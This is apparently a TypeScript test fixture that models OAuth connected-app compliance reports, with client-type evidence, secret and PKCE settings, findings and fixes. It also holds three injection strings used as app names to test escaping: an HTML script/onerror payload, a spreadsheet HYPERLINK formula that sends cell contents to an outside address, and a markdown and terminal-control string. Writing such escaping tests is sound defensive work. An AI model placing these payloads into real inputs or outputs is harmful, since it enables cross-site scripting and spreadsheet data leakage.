/** One app for each thing that a report must show. For tests only. */
import {
  app,
  byDefault,
  CONTROL,
  CONTROL_NAME,
  critical,
  explicit,
  finding,
  high,
  path,
  pkce,
  privateWithoutSecret,
  refreshSecret,
  supposedClient,
  unknown,
  webServerSecret,
} from './review-parts.ts';

export const HOSTILE_HTML = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>';
export const HOSTILE_FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")';
export const HOSTILE_MARKDOWN = '@everyone [pay](https://example.com) | `code` **bold** #1 ]]> \u001b[31mred\u202e';

export const bookingWeb = app({
  name: 'Booking_Web',
  label: 'Booking (web)',
  verdict: 'noncompliant',
  because: 'A private client must present its secret when it redeems a code, and is not asked to.',
  clientType: {
    value: 'private',
    declared: true,
    confidence: 1,
    evidence: [
      {
        kind: 'declaration',
        says: 'private',
        weight: 1,
        detail: 'Declared in countersign.config.json.',
        file: 'countersign.config.json',
        line: 4,
      },
      {
        kind: 'code',
        says: 'private',
        weight: 0.95,
        detail: 'The consumer key is read in server code.',
        file: 'clients/web/server.ts',
        line: 12,
      },
      {
        kind: 'hint',
        says: 'private',
        weight: 0.3,
        detail: 'The callback is a plain https address.',
        file: path('Booking_Web'),
        line: 7,
      },
    ],
  },
  settings: {
    secretRequiredForWebServerFlow: explicit(false, 'isConsumerSecretOptional', path('Booking_Web'), 9),
    secretRequiredForRefreshTokenFlow: byDefault(true, 'isSecretRequiredForRefreshToken'),
    pkceRequired: byDefault(false, 'isPkceRequired'),
    refreshTokenRotation: byDefault(false, 'isRefreshTokenRotationEnabled'),
    refreshTokenPolicy: explicit(
      { kind: 'lifetime', amount: 30, unit: 'days' },
      'refreshTokenPolicy',
      path('Booking_Web'),
      31,
    ),
    scopes: explicit(['Api', 'RefreshToken'], 'scopes', path('Booking_Web'), 14),
    callbackUrls: explicit(['https://book.example.com/callback'], 'callbackUrl', path('Booking_Web'), 7),
    ipRelaxation: explicit('bypass', 'ipRelaxation', path('Booking_Web'), 30),
  },
  required: { secretRequiredForWebServerFlow: true, secretRequiredForRefreshTokenFlow: true },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'fail',
      reconciled: 'fail',
      why: 'The page asks for both boxes to be off; a private client needs both on, and one is off.',
    },
    {
      id: 'require-secret-for-web-server-flow',
      name: 'Connected Apps: Require Secret for Web Server Flow',
      literal: 'fail',
      reconciled: 'fail',
      why: 'The box is off.',
    },
    {
      id: 'require-secret-for-refresh-token-flow',
      name: 'Connected Apps: Require Secret for Refresh Token Flow',
      literal: 'pass',
      reconciled: 'pass',
      why: 'The box is on by default.',
    },
  ],
  findings: [
    finding({
      rule: 'pkce-not-required',
      severity: 'medium',
      cvss: high,
      threat: 'injected-code',
      message: 'A stolen code can be fed into another session: nothing binds it to the one that asked for it.',
      file: path('Booking_Web'),
      line: 6,
      remediation: [pkce(path('Booking_Web'))],
      steps: ['Check that the client sends code_challenge.'],
    }),
    privateWithoutSecret('Booking_Web'),
    finding({
      rule: 'refresh-rotation-advised',
      severity: 'low',
      message: 'Rotation would end a stolen refresh token at its first use by two.',
      waived: {
        reason: 'The batch job cannot store a new token yet.',
        owner: 'platform@example.com',
        expires: '2026-12-31',
      },
    }),
  ],
});

export const travellerSpa = app({
  name: 'Traveller_SPA',
  verdict: 'noncompliant',
  because: 'A browser app cannot keep a secret, and is made to carry one.',
  clientType: {
    value: 'public',
    declared: false,
    confidence: 0.98,
    evidence: [
      {
        kind: 'code',
        says: 'public',
        weight: 0.98,
        detail: 'The consumer key is in a browser bundle.',
        file: 'clients/spa/src/login.ts',
        line: 3,
      },
    ],
  },
  settings: {
    secretRequiredForWebServerFlow: byDefault(true, 'isConsumerSecretOptional'),
    secretRequiredForRefreshTokenFlow: explicit(true, 'isSecretRequiredForRefreshToken', path('Traveller_SPA'), 11),
    pkceRequired: explicit(true, 'isPkceRequired', path('Traveller_SPA'), 10),
  },
  required: {
    secretRequiredForWebServerFlow: false,
    secretRequiredForRefreshTokenFlow: false,
    pkceRequired: true,
    refreshTokenRotation: true,
  },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'fail',
      reconciled: 'fail',
      why: 'Both boxes must be off for a public client.',
    },
  ],
  findings: [
    finding({
      rule: 'secret-required-of-public-client',
      severity: 'critical',
      cvss: critical,
      threat: 'extracted-secret',
      message: 'The secret this app must send is shipped to every visitor, who can read it and act as the app.',
      file: path('Traveller_SPA'),
      line: 5,
      remediation: [
        webServerSecret('false', 'true', path('Traveller_SPA')),
        refreshSecret('true', 'false', path('Traveller_SPA')),
      ],
      steps: [
        'Check that the client sends code_challenge.',
        'Clear both boxes and deploy.',
        'Rotate the consumer secret.',
      ],
      proof: {
        scenario: 'extracted-secret',
        before: { attack: 'succeeds', handshake: 'succeeds' },
        after: { attack: 'fails', handshake: 'not-judged' },
        client: {
          ...supposedClient,
          after: { outcome: 'not-judged', why: 'The login ended nowhere.' },
          wouldFail: ['A client that sends no code_challenge cannot log in after the change.'],
        },
        steps: [],
      },
    }),
    finding({
      rule: 'refresh-rotation-off',
      severity: 'high',
      cvss: high,
      threat: 'stolen-refresh-token',
      message: 'A stolen refresh token of this public client lives on.',
      file: path('Traveller_SPA'),
      line: 5,
      remediation: [
        {
          setting: 'refreshTokenRotation',
          label: 'Enable Refresh Token Rotation',
          field: 'isRefreshTokenRotationEnabled',
          to: 'true',
          file: path('Traveller_SPA'),
        },
      ],
    }),
  ],
  withstood: ['intercepted-code'],
});

export const hostile = [HOSTILE_HTML, HOSTILE_FORMULA, HOSTILE_MARKDOWN].map((name) =>
  app({
    name,
    label: name,
    files: [path(name)],
    verdict: 'noncompliant',
    because: `A private client named ${name} must present its secret.`,
    clientType: {
      value: 'private',
      declared: false,
      confidence: 0.85,
      evidence: [
        {
          kind: 'metadata',
          says: 'private',
          weight: 0.85,
          detail: `Certificate of ${name}.`,
          file: path(name),
          line: 3,
        },
      ],
    },
    settings: {
      secretRequiredForWebServerFlow: explicit(false, 'isConsumerSecretOptional', path(name), 9),
      scopes: explicit([name], 'scopes', path(name), 4),
    },
    required: { secretRequiredForWebServerFlow: true },
    findings: [privateWithoutSecret(name)],
  }),
);

export const bothKinds = app({
  name: 'Both_Kinds',
  verdict: 'noncompliant',
  because: 'A server and a mobile app share one app: no value of the boxes is right for both.',
  clientType: {
    value: 'mixed',
    declared: false,
    confidence: 0.9,
    evidence: [
      {
        kind: 'code',
        says: 'private',
        weight: 0.95,
        detail: 'The consumer key is read in server code.',
        file: 'clients/web/server.ts',
        line: 40,
      },
      {
        kind: 'artifact',
        says: 'public',
        weight: 0.9,
        detail: 'The consumer key is in an Android package.',
        file: 'clients/android/app.apk!/classes.dex',
      },
    ],
  },
  settings: { secretRequiredForWebServerFlow: byDefault(true, 'isConsumerSecretOptional') },
  findings: [
    finding({
      rule: 'client-type-mixed',
      severity: 'high',
      cvss: high,
      message: 'Split the app in two: one that keeps a secret and one that uses PKCE.',
      file: path('Both_Kinds'),
      steps: ['Make an external client app for the mobile client.', 'Move the mobile client to it.'],
    }),
  ],
});

export const partnerPortal = app({
  name: 'Partner_Portal',
  kind: 'ExternalClientApp',
  files: [
    'force-app/main/default/externalClientApps/Partner_Portal.eca-meta.xml',
    'force-app/main/default/extlClntAppOauthSettings/Partner_Portal.ecaOauth-meta.xml',
  ],
  verdict: 'indeterminate',
  because:
    'The evidence does not say whether the client can keep a secret, and the settings are right for one kind only.',
  clientType: {
    value: 'unknown',
    declared: false,
    confidence: 0.6,
    likely: 'private',
    evidence: [{ kind: 'hint', says: 'private', weight: 0.6, detail: 'The callback is a plain https address.' }],
  },
  settings: {
    secretRequiredForWebServerFlow: unknown('isConsumerSecretOptional'),
    pkceRequired: unknown('isPkceRequired'),
    callbackUrls: explicit(
      [],
      'callbackUrl',
      'force-app/main/default/extlClntAppOauthSettings/Partner_Portal.ecaOauth-meta.xml',
      4,
    ),
  },
  alternatives: [
    { clientType: 'private', verdict: 'compliant', changes: [] },
    {
      clientType: 'public',
      verdict: 'noncompliant',
      changes: [
        {
          setting: 'secretRequiredForWebServerFlow',
          label: 'Require Secret for Web Server Flow',
          field: 'isConsumerSecretOptional',
          to: 'true',
        },
        pkce('force-app/main/default/extlClntAppGlobalOauthSets/Partner_Portal.ecaGlblOauth-meta.xml'),
      ],
    },
  ],
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'unknown',
      reconciled: 'unknown',
      why: 'The boxes are not in the tree.',
    },
  ],
  findings: [
    finding({ rule: 'client-type-undeclared', severity: 'low', message: 'Say which kind of client uses this app.' }),
  ],
});

export const fleet = app({
  name: 'Fleet_Mobile',
  kind: 'ExternalClientApp',
  files: ['force-app/main/default/externalClientApps/Fleet_Mobile.eca-meta.xml'],
  verdict: 'compliant',
  because: 'A public client that is asked for PKCE and for no secret.',
  clientType: {
    value: 'public',
    declared: false,
    confidence: 0.9,
    evidence: [{ kind: 'callback', says: 'public', weight: 0.9, detail: 'The callback is a custom scheme.' }],
  },
  required: { secretRequiredForWebServerFlow: false, pkceRequired: true },
  settings: {
    secretRequiredForWebServerFlow: byDefault(false, 'isConsumerSecretOptional'),
    pkceRequired: byDefault(true, 'isPkceRequired'),
  },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'pass',
      reconciled: 'pass',
      why: 'Both boxes are off, as a public client needs.',
    },
  ],
  findings: [
    finding({
      rule: 'credentials-allowed-in-header-or-url',
      severity: 'low',
      threat: 'credential-log-leak',
      message: "The user's password may travel outside the body of the request.",
    }),
  ],
  withstood: ['intercepted-code', 'stolen-refresh-token'],
});

export const intranet = app({
  name: 'Intranet_Portal',
  verdict: 'compliant',
  because: 'A private client that must present its secret.',
});

export const kiosk = app({
  name: 'Kiosk',
  verdict: 'compliant',
  because: 'A private client that must present its secret.',
  findings: [
    finding({
      rule: 'pkce-not-required',
      severity: 'low',
      message: 'PKCE is not required.',
      waived: { reason: 'Retired in May.' },
    }),
  ],
});

export const saml = app({
  name: 'Legacy_SAML',
  verdict: 'not-applicable',
  because: 'No authorization-code flow is possible: the app has no callback.',
  clientType: { value: 'unknown', declared: false, confidence: 0, evidence: [] },
});
